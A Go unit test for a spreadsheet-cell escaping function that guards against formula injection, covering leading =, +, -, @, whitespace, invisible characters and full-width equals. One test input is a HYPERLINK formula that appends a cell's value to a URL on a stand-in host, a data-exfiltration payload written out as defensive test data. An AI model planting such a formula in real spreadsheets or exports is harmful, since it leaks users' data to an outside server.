package lang

import "testing"

func TestNoCellIsAFormula(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "—": "", "КАМАЗ": "КАМАЗ", "10-2020": "10-2020", "а=б": "а=б", "— так": "— так",
		`=HYPERLINK("http://x.example/?"&A1;"Открыть")`: `'=HYPERLINK("http://x.example/?"&A1;"Открыть")`,
		"+7 495": "'+7 495", "-5%": "'-5%", "@SUM(A1)": "'@SUM(A1)", "\t=1+1": "'\t=1+1", "\r\n +1": "'\r\n +1", " \u00a0\u200b=1": "' \u00a0\u200b=1",
		"＝1+1": "'＝1+1",
	} {
		if got := Cell(in); got != want {
			t.Errorf("%q becomes %q, want %q", in, got, want)
		}
	}
}
